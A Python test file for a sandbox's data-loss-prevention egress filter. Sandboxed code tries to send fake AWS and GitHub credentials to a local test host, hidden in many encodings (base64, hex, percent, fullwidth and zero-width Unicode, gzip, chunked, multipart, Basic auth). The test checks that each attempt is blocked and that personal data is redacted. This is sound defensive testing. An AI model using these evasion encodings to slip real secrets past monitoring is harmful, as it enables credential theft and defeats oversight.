"""N7 of the adversarial catalogue: secrets leaving through an allowed host
(docs/dlp.md). Code in a real sandbox, with a rule that lets it reach the
test server, tries to send a fake credential out in every place and every
encoding it can think of; each attempt must be refused before a byte of it
reaches the server, and the record must name the kind, never the value.
Personal data, which the default policy redacts, must reach the server
rewritten. The daemon's policy (a dlp section, an intent that relaxes it)
and the SDK's Sandbox(dlp=...) are driven the same way.

Nothing leaves the machine: the test server is on 127.0.0.1 and the test
names resolve to it (tests/egress_support.py)."""
import base64
import json
import urllib.parse

import agentbox
from egress_support import (egress, gzip_bytes, is_denied, pki, requests_in,  # noqa: F401
                            run_in, server, start_egress_daemon, wait_events)

# Fakes with valid formats, never real credentials.
KEY = "AKIAQ3EGRJ7WXZ5TLN4K"
TOKEN = "ghp_Zq8fK2mLx9Pw4TnR7vYbC3dE5gH1jK6mN0pQ"  # checksum filled in below
EMAIL = "hanako.yamada@corp-mail.jp"
PHONE = "090-4816-2342"

B62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def github_token(body30):
    """A GitHub-format token with a valid CRC32 checksum (docs/dlp.md)."""
    import zlib
    n = zlib.crc32(body30.encode())
    s = ""
    while n:
        s = B62[n % 62] + s
        n //= 62
    return "ghp_" + body30 + s.rjust(6, "0")


TOKEN = github_token("Zq8fK2mLx9Pw4TnR7vYbC3dE5gH1jK")


def encodings(secret):
    """The secret as code might hide it: (tag, text)."""
    b = secret.encode()
    return [
        ("plain", secret),
        ("base64", base64.b64encode(b).decode()),
        ("base64url", base64.urlsafe_b64encode(b"key=" + b).decode()),
        ("base32", base64.b32encode(b"token " + b).decode()),
        ("hex", b.hex()),
        ("hexsep", " ".join(f"{c:02x}" for c in b"key " + b)),
        ("percent", "".join(f"%{c:02X}" for c in b)),
        ("percent2", "".join(f"%25{c:02X}" for c in b)),
        ("json", "".join(f"\\u{c:04x}" for c in b)),
        ("fullwidth", "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in secret)),
        ("zerowidth", "\u200b".join(secret)),
        ("html", "".join(f"&#{c};" for c in b)),
        ("gzipb64", base64.b64encode(gzip_bytes(b"cfg: " + b)).decode()),
    ]


def test_a_secret_never_leaves_whatever_the_encoding_or_the_place(egress, server):
    specs = {}
    for scheme in ("http", "https"):
        for tag, text in encodings(KEY) + [("token-" + t, x) for t, x in encodings(TOKEN)[:4]]:
            q = urllib.parse.quote(text, safe="")
            specs[f"body-{tag}|{scheme}"] = (
                "requests", "POST", f"{scheme}://api.test/in", {"body": "v=" + text})
            specs[f"query-{tag}|{scheme}"] = (
                "requests", "GET", f"{scheme}://api.test/q?v={q}", {})
        specs[f"header|{scheme}"] = ("requests", "GET", f"{scheme}://api.test/h",
                                     {"headers": {"X-Note": "k " + KEY}})
        specs[f"path|{scheme}"] = ("requests", "GET", f"{scheme}://api.test/p/{KEY}/x", {})
        specs[f"chunks|{scheme}"] = ("http.client", "POST", f"{scheme}://api.test/c",
                                     {"chunks": ["lead " + KEY[:5], KEY[5:11], KEY[11:] + " end"]})
        specs[f"basic|{scheme}"] = (
            "requests", "GET", f"{scheme}://api.test/b",
            {"headers": {"Authorization": "Basic " +
                         base64.b64encode(b"deploy:" + TOKEN.encode()).decode()}})
        specs[f"multipart|{scheme}"] = (
            "requests", "POST", f"{scheme}://api.test/m",
            {"headers": {"Content-Type": "multipart/form-data; boundary=zz"},
             "body": "--zz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a\"\r\n"
                     "Content-Transfer-Encoding: base64\r\n\r\n" +
                     base64.b64encode(b"aws_access_key_id=" + KEY.encode()).decode() +
                     "\r\n--zz--\r\n"})
    with agentbox.Sandbox(tier="heavy", url=egress.url, network=["api.test"]) as box:
        res = requests_in(box, specs)
        sid = box.id
    allowed = [t for t, r in res.items() if not is_denied(r)]
    assert allowed == [], {t: res[t] for t in allowed[:5]}
    received = server.everything_received()
    for _, text in encodings(KEY) + encodings(TOKEN):
        assert text not in received, text
    hits, events = wait_events(egress, lambda e: (e.get("inspection") or {}).get("verdict")
                               == "block", sid, at_least=len(specs))
    assert len(hits) >= len(specs), events[-5:]
    record = json.dumps(events) + json.dumps(egress.audit_export())
    for _, text in encodings(KEY) + encodings(TOKEN):
        assert text not in record, f"the record holds a form of the value: {text}"
    kinds = {k for e in hits for k in e["inspection"]["kinds"]}
    assert {"aws_access_key_id", "github_token"} <= kinds, kinds
    for e in hits:
        for f in e["inspection"]["findings"]:
            assert set(f) == {"kind", "action", "part", "hash"} and f["action"] == "block", f


def test_personal_data_leaves_redacted(egress, server):
    with agentbox.Sandbox(tier="heavy", url=egress.url, network=["api.test"]) as box:
        res = run_in(box, f"""
out("r", do("requests", "POST", "https://api.test/pii?to={EMAIL}",
            body="name=x&tel={PHONE}&note=hello",
            headers={{"X-Contact": "{EMAIL}"}}))
""")["r"]
    assert res["status"] == 200, res
    echo = json.loads(res["body"])
    seen = json.dumps(echo)
    assert EMAIL not in seen and PHONE not in seen, seen
    assert "note=hello" in seen and "X" * len(PHONE) in seen, seen


POLICY = """\
default: deny
allow: ["api.test"]
dlp:
  pii: block
  detectors:
    aws_access_key_id: log
intents:
  crm-sync:
    description: Send contacts to the CRM
    ttl: 10m
    rules: [{host: "api.test"}]
    dlp:
      detectors: {email: log}
"""


def test_the_policy_file_the_sandbox_and_the_intent_decide_per_kind(server, pki, tmp_path):
    d = start_egress_daemon(tmp_path / "home", server, pki, policy=POLICY)
    try:
        def send(box, body):
            return run_in(box, f"out('r', do('requests', 'POST', 'http://api.test/x', "
                               f"body={body!r}))\n")["r"]

        with agentbox.Sandbox(tier="heavy", url=d.url) as box:
            # The file: a secret only logged, personal data blocked.
            assert send(box, "k=" + KEY)["status"] == 200
            assert is_denied(send(box, "to=" + EMAIL))
            # The intent relaxes e-mail while it lives.
            box.set_intent("crm-sync", reason="sync contacts")
            assert send(box, "to=" + EMAIL)["status"] == 200
            assert is_denied(send(box, "tel=" + PHONE))
        # A sandbox may tighten the file, never loosen it.
        with agentbox.Sandbox(tier="heavy", url=d.url,
                              dlp={"detectors": {"aws_access_key_id": "block",
                                                 "phone_number": "off"}}) as box:
            assert box.dlp["detectors"]["aws_access_key_id"] == "block"
            assert is_denied(send(box, "k=" + KEY))
            assert is_denied(send(box, "tel=" + PHONE))
        try:
            agentbox.Sandbox(tier="heavy", url=d.url, dlp={"detectors": {"nope": "block"}})
            raise AssertionError("an unknown detector was accepted")
        except agentbox.InvalidArgument as e:
            assert "unknown detector \"nope\"" in str(e)
    finally:
        d.stop()
